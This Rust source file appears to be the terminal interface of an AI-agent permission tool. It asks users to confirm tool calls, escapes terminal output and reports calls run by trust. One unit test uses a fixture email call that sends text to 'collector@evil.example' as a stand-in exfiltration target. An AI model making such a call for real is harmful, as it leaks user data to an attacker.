//! The user at a terminal.

use std::collections::BTreeSet;
use std::fmt;
use std::io::{ErrorKind, IsTerminal, Write};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex, PoisonError};
use std::task::{Context, Waker};
use std::time::{Duration, Instant};

use async_trait::async_trait;
use hub::question::arguments;
use hub::trace::{Call, Event, Flow, Record, Text, UNANSWERED, escape, escape_lines, show};
use ifc::Basis;
use indicatif::{ProgressBar, ProgressStyle};
use rustix::event::{PollFd, PollFlags, Timespec, poll};
use rustix::io::Errno;
use rustix::termios::{
    LocalModes, OptionalActions, QueueSelector, tcflush, tcgetattr, tcgetwinsize, tcsetattr,
};
use server::desk::{Answered, Desk, QuestionOrigin};
use server::{FormAnswer, FormView, QuestionView, Selection, SelectionView, User};
use tokio::signal::unix::{SignalKind, signal};
use tokio::task::spawn_blocking;
use tracing::{error, info, warn};
use wire::{Refusal, Wish};

use crate::answered;
use crate::form::{self, FormDialogue};
use crate::keep_for::KeepFor;
use crate::question::{self, Dialogue, Next, Size, hanging, inset, shortened, word};
use crate::selection;
use crate::unwritten;
use crate::words;

/// What providers may see beyond their clearances, and where that is written.
pub(crate) trait Settles: Send + Sync {
    /// The question, and the line that asks it.
    fn question(&self, provider: &str, above: &[String]) -> (String, String);

    /// Writes that a provider may see this from now on, or says why not.
    fn keep(&self, provider: &str, above: &[String]) -> Result<(), String>;
}

/// Makes the desk of a session, where its questions can be answered too.
pub(crate) trait Asks: Send + Sync {
    /// The desk of the session with this trace; `None` if there is none.
    fn desk_of(&self, session: &str) -> Option<Arc<Desk>>;
}

/// The user at a terminal. Without a terminal every question is answered with no.
pub(crate) struct Terminal {
    verbose: bool,
    /// How long "always" lasts.
    keep_for: KeepFor,
    /// Without it no provider may see more than its clearance.
    settles: Option<Box<dyn Settles>>,
    /// Where lines of apps are written.
    pub(crate) file: String,
    /// Where questions can be answered too, and the session that is asked about.
    asking: Option<Box<dyn Asks>>,
    desk: Option<Arc<Desk>>,
    start_ms: Option<u64>,
    /// Questions of this task that the user has answered with yes.
    allowed: usize,
    replaced: Replaced,
    progress: ProgressBar,
}

/// Columns of a terminal that does not report its width.
const COLUMNS: usize = 80;

/// How often a wait for a typed line checks that the question is still open.
const LOOK: Timespec = Timespec {
    tv_sec: 0,
    tv_nsec: 200_000_000,
};

/// How often the progress line moves.
const TICK: Duration = Duration::from_millis(120);

impl Terminal {
    /// `verbose` prints the trace while it is written.
    pub(crate) fn new(verbose: bool, keep_for: KeepFor) -> Self {
        let progress = match std::io::stderr().is_terminal() {
            true => ProgressBar::new_spinner(),
            false => ProgressBar::hidden(),
        };
        if let Ok(style) = ProgressStyle::with_template("{spinner} {msg} {elapsed}") {
            progress.set_style(style);
        }
        Self {
            verbose,
            keep_for,
            settles: None,
            file: "sluice.toml".to_owned(),
            asking: None,
            desk: None,
            start_ms: None,
            allowed: 0,
            replaced: Replaced::default(),
            progress,
        }
    }

    /// The same, over a session's providers.
    pub(crate) fn settling(self, settles: impl Settles + 'static) -> Self {
        Self {
            settles: Some(Box::new(settles)),
            ..self
        }
    }

    /// The same, where questions can be answered at the desk too. The first answer counts.
    pub(crate) fn asking(self, asking: Option<impl Asks + 'static>) -> Self {
        let asking = asking.map(|asking| Box::new(asking) as Box<dyn Asks>);
        Self { asking, ..self }
    }

    pub(crate) fn working(&self, what: impl Into<String>) {
        self.progress
            .set_message(shortened(&escape(&what.into()), columns() / 2));
        if self.progress.is_finished() {
            self.progress.reset();
        }
        self.progress.enable_steady_tick(TICK);
    }

    /// Removes the progress line. A reset would draw it again.
    pub(crate) fn rest(&self) {
        self.progress.disable_steady_tick();
        self.progress.finish_and_clear();
    }

    /// Whether a user can answer.
    pub(crate) fn attended() -> bool {
        std::io::stdin().is_terminal() && std::io::stderr().is_terminal()
    }

    /// The next line. A line that is typed after the question was dropped stays in the queue, and the next question
    /// discards it.
    async fn line(prompt: String) -> Option<String> {
        let waits = Arc::new(());
        let asker = Arc::downgrade(&waits);
        // A blocking read cannot be cancelled, and would take the answer to the next question.
        let read = spawn_blocking(move || {
            // Without a question the line stays in the queue.
            match typed_unless(&prompt, || asker.strong_count() == 0) {
                Hidden::Line(line) => Some(line),
                Hidden::End | Hidden::Interrupted => None,
            }
        });
        let line = read.await.ok().flatten();
        // If this future is dropped before, the thread sees it.
        drop(waits);
        line
    }
}

/// When a shown question ended without a typed answer: a line that is typed soon after the next one is shown may be meant for
/// it.
#[derive(Default)]
pub(crate) struct Replaced(Mutex<Option<Instant>>);

impl Replaced {
    /// In this time, no person has read a new question.
    const READING: Duration = Duration::from_secs(1);
    pub(crate) const EARLY: &str =
        "This question took the place of another one just now, so that line does not count.\n";

    pub(crate) fn set(&self) {
        *self.0.lock().unwrap_or_else(PoisonError::into_inner) = Some(Instant::now());
    }

    pub(crate) fn take(&self) -> Option<Instant> {
        self.0.lock().unwrap_or_else(PoisonError::into_inner).take()
    }

    /// Whether a line is too early for a question that was shown then.
    pub(crate) fn is_early(replaced: Option<Instant>, shown: Instant, typed: Instant) -> bool {
        let follows = |ended| shown.saturating_duration_since(ended) < Self::READING;
        replaced.is_some_and(follows) && typed.saturating_duration_since(shown) < Self::READING
    }
}

/// Reads lines until one is an answer. A terminal that is closed has none.
async fn typed(mut dialogue: Dialogue, replaced: Option<Instant>) -> Answered {
    let mut prompt = dialogue.prompt();
    let shown = Instant::now();
    loop {
        let Some(line) = Terminal::line(prompt).await else {
            return Answered::NOT;
        };
        if Replaced::is_early(replaced, shown, Instant::now()) {
            prompt = Replaced::EARLY.to_owned() + &dialogue.prompt();
            continue;
        }
        match dialogue.hear(Some(&line)) {
            Next::Done(answer) => return answered::typed(answer),
            Next::Say(again) => prompt = again,
        }
    }
}

#[async_trait]
impl User for Terminal {
    async fn confirm(&mut self, question: &QuestionView) -> Answered {
        self.rest();
        let asked = question;
        let mut question = question.clone();
        if !Self::attended() {
            // Without what the other answers would mean.
            question.choices.clear();
            (question.trust, question.endorses) = (None, None);
        }
        let dialogue = Dialogue::new(&question, size(1), self.keep_for);
        say(&format!("\n{}", dialogue.text()));
        if !Self::attended() {
            say(
                "There is no terminal to ask at, so the answer is no. A permission counts here only if it was given in a session with --scripts.\n",
            );
            return Answered::NOT;
        }
        let replaced = self.replaced.take();
        let Some(desk) = &self.desk else {
            return typed(dialogue, replaced).await;
        };
        let (origin, typed) = (QuestionOrigin::default(), typed(dialogue, replaced));
        let answered = desk.beside(&origin, asked, typed).await;
        if !answered::is_typed(&answered) {
            say(&answered::line(&answered));
            self.replaced.set();
        }
        answered
    }

    async fn clear(&mut self, provider: &str, above: &[String]) -> bool {
        self.rest();
        let Some(settles) = self.settles.as_ref().filter(|_| Self::attended()) else {
            return false;
        };
        let (text, prompt) = settles.question(provider, above);
        say(&text);
        for _ in 0..words::ATTEMPTS {
            let line = Self::line(prompt.clone()).await;
            match line.unwrap_or_default().trim().to_lowercase().as_str() {
                "" | "no" => return false,
                "yes" => return true,
                "always" if prompt.contains("always") => {
                    if let Err(error) = settles.keep(provider, above) {
                        message(&format!("note: this was not written: {error}"));
                    }
                    return true;
                }
                _ => say("Type one of these words.\n"),
            }
        }
        false
    }

    async fn fill_in(&mut self, view: &FormView) -> FormAnswer {
        self.rest();
        let mut dialogue = FormDialogue::new(view, columns());
        say(&format!("\n{}", dialogue.text()));
        if !Self::attended() {
            say("There is no terminal to ask at, so the app gets no answer.\n");
            return FormAnswer::Dismissed;
        }
        let mut prompt = dialogue.prompt();
        loop {
            let line = Self::line(prompt).await;
            match dialogue.hear(line.as_deref()) {
                form::Next::Done(answer) => {
                    self.working("waiting for the app");
                    return answer;
                }
                form::Next::Say(again) => prompt = again,
            }
        }
    }

    async fn select(&mut self, view: &SelectionView) -> Selection {
        self.rest();
        if !Self::attended() {
            return Selection::Absent;
        }
        say(&format!("\n{}", selection::text(view, self.keep_for)));
        for _ in 0..words::ATTEMPTS {
            let line = Self::line(selection::prompt(view)).await;
            match selection::read(line.as_deref(), view) {
                Some(selection) => return selection,
                None => say("Type one of these words.\n"),
            }
        }
        Selection::None
    }

    fn idle(&mut self) {
        self.rest();
    }

    fn observe(&mut self, record: &Record) {
        let start_ms = *self.start_ms.get_or_insert(record.at_ms);
        if self.verbose {
            let line = format!("{}\n", show(record, start_ms));
            self.progress.suspend(|| say(&line));
        }
        if let Some(note) = note(record, &self.file) {
            self.progress.suspend(|| say(&note));
        }
        match &record.event {
            Event::SessionStarted { session, .. } => {
                let asking = self.asking.as_ref();
                self.desk = asking.and_then(|asking| asking.desk_of(session));
            }
            Event::User { .. } | Event::Returned { .. } => self.working("waiting for the model"),
            Event::Allowed {
                flow: Flow::Call(call),
                ..
            } => self.working(format!("{}.{}", call.app, call.tool.as_str())),
            Event::Planned { apps, .. } if !apps.is_empty() => {
                let apps: Vec<&str> = apps.iter().map(String::as_str).collect();
                self.working(format!("starting {}", apps.join(", ")));
            }
            Event::Answered { allowed: true, .. } | Event::Trusted { .. } => self.allowed += 1,
            Event::Answer { .. } | Event::Stopped { .. } => {
                self.rest();
                if std::mem::take(&mut self.allowed) > 0 {
                    say("(rules for what you allowed: `sluice policy suggest`)\n");
                }
            }
            _ => {}
        }
    }
}

/// Lines beside the answer. With --each, each line of an app's answer has the app's name before it, so that none looks
/// like another's or like ours.
fn note(record: &Record, file: &str) -> Option<String> {
    match (&record.conversation, &record.event) {
        // An answer may depend on these memories.
        (_, Event::Recalled { memories }) => {
            let origins: BTreeSet<_> = memories.iter().map(|it| escape(&it.origin)).collect();
            let lines = origins.iter().map(|it| format!("from memory: {it}\n"));
            Some(lines.collect())
        }
        // A tool is missing, or one that the user meant to hide may be offered.
        (
            _,
            Event::Unheard {
                app,
                request,
                reason,
                times,
            },
        ) if request == Wish::Tool.name()
            && !reason.starts_with(&Refusal::Unchecked.to_string()) =>
        {
            Some(unheard(app, request, reason, *times))
        }
        (_, Event::Unheard { app, reason, .. }) => unwritten::file(app, reason, file),
        // The app itself may only report that something failed.
        (_, Event::NameDenied { app, name, reason }) => {
            let (app, name, reason) = (escape(app), word(name), escape(reason));
            Some(format!("note: {app} looked up {name}: {reason}\n"))
        }
        (
            _,
            Event::ConnectionAsked {
                app, to, answer, ..
            },
        ) if answer == UNANSWERED => {
            let (app, to) = (escape(app), escape(to));
            Some(format!(
                "\nnote: the question timed out; {app} was not connected to {to}\n"
            ))
        }
        (
            _,
            Event::Allowed {
                flow: Flow::Call(call),
                by,
                ..
            },
        ) => permitted(call, by).or_else(|| by_trust(call, by)),
        (
            _,
            Event::Returned {
                call,
                refused: Some(what),
                ..
            },
        ) => unwritten::note(&call.app, what, file),
        (_, Event::CallFailed { call, reason }) => {
            unwritten::note(&call.app, &Text::refused(reason)?, file)
        }
        (_, Event::MemoryFailed { reason }) => Some(format!("note: {}\n", escape(reason))),
        (Some(app), Event::Answer { text, .. }) => {
            let lines = text
                .lines()
                .map(|line| format!("[{}] {}\n", escape(app), escape(line)));
            Some(lines.collect())
        }
        (None, Event::LeftOut { apps }) => {
            let apps = escape(&apps.join(", "));
            Some(format!(
                "(without {apps}, which did not start; see `sluice trace show`)\n"
            ))
        }
        (_, Event::Uncleared { above, .. }) => Some(format!("({})\n", uncleared(above))),
        (None, Event::Gathered { missing, .. }) if !missing.is_empty() => {
            let missing = escape(&missing.join(", "));
            Some(format!(
                "(no answer from {missing}; see `sluice trace show`)\n"
            ))
        }
        _ => None,
    }
}

/// A line about what of an app is left out.
pub(crate) fn unheard(app: &str, request: &str, reason: &str, times: u64) -> String {
    let (app, reason) = (escape(app), word(reason));
    let many = match times > 1 && request == Wish::Tool.name() {
        true => "s",
        false => "",
    };
    format!("note: {app}, {times} {request}{many}: {reason}\n")
}

/// One line about a call that runs by a stored permission.
fn permitted(call: &Call, by: &str) -> Option<String> {
    // As `ifc::Basis` is written. Names of rules are behind "policy ".
    let id = by.strip_prefix("permission ")?;
    let arguments = shortened(&escape(call.arguments.as_str()), COLUMNS);
    let (app, tool) = (escape(&call.app), escape(call.tool.as_str()));
    Some(format!(
        "note: {app}.{tool} {arguments} runs by your permission; revoke it with `sluice permissions revoke {id}`\n"
    ))
}

/// One line about a call that runs since the user trusts what it depends on: only the texts were shown.
fn by_trust(call: &Call, by: &str) -> Option<String> {
    let is_trusted = by == Basis::UserTrust.to_string();
    let arguments = arguments(&call.arguments).unwrap_or_default();
    let arguments = arguments.iter().map(|it| {
        let argument = format!("{}: {}", it.name, it.value);
        shortened(&escape(&argument), COLUMNS)
    });
    let arguments: Vec<String> = arguments.collect();
    let (app, tool) = (escape(&call.app), escape(call.tool.as_str()));
    is_trusted.then(|| {
        format!(
            "note: {app}.{tool} ({}) runs because you trust what it depends on\n",
            arguments.join(", ")
        )
    })
}

/// Names the text that is masked since no provider is cleared for it.
pub(crate) fn uncleared(above: &[String]) -> String {
    let what = match above {
        [any] if any == "any" => "some of the text".to_owned(),
        above => format!("text labelled {}", escape(&above.join(", "))),
    };
    format!(
        "the model does not see {what}, because no provider is cleared for it; see clearance in `sluice.toml`"
    )
}

/// One line that is typed after the prompt. `None` at the end of input.
fn read_line(prompt: &str) -> Option<String> {
    show_prompt(prompt)?;
    take_line()
}

/// Shows a prompt. Earlier input is discarded.
fn show_prompt(prompt: &str) -> Option<()> {
    // Otherwise earlier input could answer.
    tcflush(std::io::stdin(), QueueSelector::IFlush).ok()?;
    say(prompt);
    Some(())
}

/// Whether a line was typed or the input has ended, after a wait of at most [`LOOK`].
fn is_typed() -> Option<bool> {
    let stdin = std::io::stdin();
    let mut input = [PollFd::new(&stdin, PollFlags::IN)];
    match poll(&mut input, Some(&LOOK)) {
        Ok(found) => Some(found > 0),
        // A signal, such as that of a resized window, is no line.
        Err(Errno::INTR) => Some(false),
        Err(_) => None,
    }
}

fn take_line() -> Option<String> {
    let mut line = String::new();
    std::io::stdin()
        .read_line(&mut line)
        .ok()
        .filter(|count| *count > 0)?;
    heard();
    Some(line)
}

/// Whether there is a terminal and the user types this word. The end of input and a third unclear line are a no.
pub(crate) fn is_agreed(prompt: &str, word: &str) -> bool {
    let unclear = format!("Type the whole word {word}, or no.");
    ask(prompt, &unclear, |line| words::read(line, word)).unwrap_or(false)
}

/// What a typed line means; the end of input is an empty one. `None` without a terminal, and after a third line without a
/// meaning.
pub(crate) fn ask<T>(prompt: &str, unclear: &str, read: impl Fn(&str) -> Option<T>) -> Option<T> {
    if !Terminal::attended() {
        return None;
    }
    (0..words::ATTEMPTS).find_map(|_| {
        let read = read(read_line(prompt).as_deref().unwrap_or_default());
        if read.is_none() {
            say(&format!("{unclear}\n"));
        }
        read
    })
}

/// Says that nothing was done, and without a terminal which option would have done it.
pub(crate) fn say_nothing(was: &str) {
    let how = if Terminal::attended() {
        ""
    } else {
        "; without a terminal, add --yes"
    };
    say(&format!("nothing was {was}{how}\n"));
}

pub(crate) enum Hidden {
    /// A line, without its end.
    Line(String),
    /// The end of input, or no terminal.
    End,
    Interrupted,
}

/// A line that is typed and not shown. Ctrl-C is caught meanwhile, since otherwise the user's shell would go on without
/// an echo.
pub(crate) fn read_hidden(prompt: &str) -> Hidden {
    let terminal = std::io::stdin();
    let (Ok(mut interrupts), Ok(shown)) = (signal(SignalKind::interrupt()), tcgetattr(&terminal))
    else {
        return Hidden::End;
    };
    let mut hidden = shown.clone();
    hidden.local_modes.remove(LocalModes::ECHO);
    if tcsetattr(&terminal, OptionalActions::Flush, &hidden).is_err() {
        return Hidden::End;
    }
    let line = typed_unless(prompt, || {
        // Polled by hand, since nothing here is async.
        let mut context = Context::from_waker(Waker::noop());
        interrupts.poll_recv(&mut context).is_ready()
    });
    // If this fails, input stays hidden.
    let _ = tcsetattr(&terminal, OptionalActions::Flush, &shown);
    say("\n");
    line
}

/// The next line, unless the user interrupts first, as `is_interrupted` says.
fn typed_unless(prompt: &str, mut is_interrupted: impl FnMut() -> bool) -> Hidden {
    if show_prompt(prompt).is_none() {
        return Hidden::End;
    }
    loop {
        // A signal ends the wait.
        let is_typed = is_typed();
        if is_interrupted() {
            return Hidden::Interrupted;
        }
        match is_typed {
            Some(false) => {}
            Some(true) => {
                return match take_line() {
                    Some(line) => Hidden::Line(line.trim_end_matches(['\r', '\n']).to_owned()),
                    None => Hidden::End,
                };
            }
            None => return Hidden::End,
        }
    }
}

/// Columns and lines of the terminal, as they are now. It may report neither.
fn reported() -> [Option<usize>; 2] {
    let size = tcgetwinsize(std::io::stderr()).ok();
    let known = |number: u16| Some(usize::from(number)).filter(|number| *number > 0);
    size.map_or([None; 2], |size| [size.ws_col, size.ws_row].map(known))
}

/// Columns of the terminal.
pub(crate) fn columns() -> usize {
    let [columns, _] = reported();
    columns.unwrap_or(COLUMNS)
}

/// The terminal, without so many lines that come before a question.
pub(crate) fn size(before: usize) -> Size {
    let [columns, rows] = reported();
    let columns = columns.unwrap_or(COLUMNS);
    let rows = rows.map_or(usize::MAX, |rows| rows.saturating_sub(before));
    Size { columns, rows }
}

/// Writes to standard error, with everything escaped that could steer a terminal, and no line that a terminal has to break.
/// A closed output is no error.
pub(crate) fn say(text: &str) {
    if LOGGED.load(Ordering::Relaxed) {
        return log(text);
    }
    let (mut stderr, text) = (std::io::stderr(), escape_lines(text));
    let text = match stderr.is_terminal() {
        true => hanging(&text, columns()),
        false => text,
    };
    let (_, open) = text.rsplit_once('\n').unwrap_or_default();
    open.clone_into(&mut OPEN.lock().unwrap_or_else(PoisonError::into_inner));
    let _ = stderr.write_all(text.as_bytes());
}

/// As [`say`], for lines to copy: an address or a token with a line break in it is of no use. Nothing foreign is in them.
pub(crate) fn say_whole(text: &str) {
    if LOGGED.load(Ordering::Relaxed) {
        return log(text);
    }
    let _ = std::io::stderr().write_all(escape_lines(text).as_bytes());
}

/// Whether standard error is a log of records: what is said is one of them.
static LOGGED: AtomicBool = AtomicBool::new(false);

/// From now on, what is said goes to the log.
pub(crate) fn say_to_log() {
    LOGGED.store(true, Ordering::Relaxed);
}

fn log(text: &str) {
    let text = escape_lines(text);
    match text.trim_end() {
        "" => {}
        text if text.starts_with("note: ") => warn!("{}", text.trim_start_matches("note: ")),
        text if text.starts_with("error: ") => error!("{}", text.trim_start_matches("error: ")),
        // The program ends.
        text if text.starts_with("sluice: ") => error!("{}", text.trim_start_matches("sluice: ")),
        text => info!("{text}"),
    }
}

/// The line that waits for input: what [`say`] has written since the last line break.
static OPEN: Mutex<String> = Mutex::new(String::new());

/// Says that the line that waits for input has got it.
pub(crate) fn heard() {
    OPEN.lock().unwrap_or_else(PoisonError::into_inner).clear();
}

/// As [`message`], where a question may wait: its prompt comes again.
pub(crate) fn aside(text: &str) {
    let open = OPEN.lock().unwrap_or_else(PoisonError::into_inner).clone();
    match open.is_empty() {
        true => message(text),
        false => say(&format!("\n{}\n{open}", inset(text))),
    }
}

/// Says one thing. A line break in what it quotes begins no line of the terminal.
pub(crate) fn message(text: &str) {
    say(&format!("{}\n", inset(text)));
}

/// As [`say`], page by page if the text is longer than the terminal. False if the user has not seen all of it.
pub(crate) fn say_in_pages(text: &str) -> bool {
    let [_, rows] = reported();
    let page = rows.map_or(usize::MAX, |rows| rows.saturating_sub(1).max(1));
    let (width, mut room) = (columns(), page);
    for line in text.lines() {
        let height = question::columns(line).div_ceil(width).max(1);
        if height > room {
            let typed = read_line("Press Enter for the next page, or type no [next]: ");
            if typed.is_none_or(|typed| !typed.trim().is_empty()) {
                return false;
            }
            room = page;
        }
        say(&format!("{line}\n"));
        room = room.saturating_sub(height);
    }
    true
}

/// Writes text to standard output, escaped if it is a terminal.
pub(crate) fn print(text: &str) -> std::io::Result<()> {
    match std::io::stdout().is_terminal() {
        true => print_escaped(&escape_lines(text)),
        false => print_escaped(text),
    }
}

/// Writes to standard output what is already escaped, with our own colours.
pub(crate) fn print_escaped(text: &str) -> std::io::Result<()> {
    let mut stdout = std::io::stdout().lock();
    let mut write = || {
        stdout.write_all(text.as_bytes())?;
        stdout.write_all(b"\n")?;
        stdout.flush()
    };
    write().map_err(|error| match error.kind() {
        ErrorKind::BrokenPipe => std::io::Error::new(error.kind(), ReaderGone),
        _ => error,
    })
}

/// The reader of standard output is gone, such as `head`. A broken connection is another error.
#[derive(Debug)]
pub(crate) struct ReaderGone;

impl fmt::Display for ReaderGone {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("standard output is closed")
    }
}

impl std::error::Error for ReaderGone {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_call_that_runs_by_trust_is_named_with_all_its_arguments() {
        let call: Call = serde_json::from_value(serde_json::json!({
            "app": "mail", "tool": "send_email", "label": [],
            "arguments": format!(r#"{{"body":"{}","to":["collector@evil.example"]}}"#, "word ".repeat(99)),
        }))
        .unwrap();
        let trust = "user, who trusts what it depends on";
        let line = by_trust(&call, trust).unwrap();
        for part in [
            "mail.send_email (",
            "body: ",
            r#"to: ["collector@evil.example"]"#,
        ] {
            assert!(line.contains(part), "{part} is missing in {line}");
        }
        assert_eq!(by_trust(&call, "policy mail.send_email.limit"), None);
    }

    /// A client ends its question, so that the user's Enter meets the next one.
    #[test]
    fn a_line_for_the_question_before_is_no_answer() {
        let now = Instant::now();
        let after = |ms| now + Duration::from_millis(ms);
        for (replaced, shown, typed, is_early) in [
            (Some(0), 1, 301, true),
            (Some(0), 1, 1_001, false),
            (Some(0), 5_000, 5_001, false),
            (None, 1, 2, false),
        ] {
            let found = Replaced::is_early(replaced.map(after), after(shown), after(typed));
            assert_eq!(found, is_early, "{replaced:?} {shown} {typed}");
        }
    }

    #[test]
    fn what_no_provider_may_see_is_named_by_its_taints() {
        let of = |names: &[&str]| {
            let names: Vec<String> = names.iter().map(|name| (*name).to_owned()).collect();
            uncleared(&names)
        };
        assert_eq!(
            of(&["secret:mail", "secret:card"]),
            "the model does not see text labelled secret:mail, secret:card, because no provider is cleared for it; see \
             clearance in `sluice.toml`"
        );
        assert!(of(&["any"]).starts_with("the model does not see some of the text, "));
    }
}
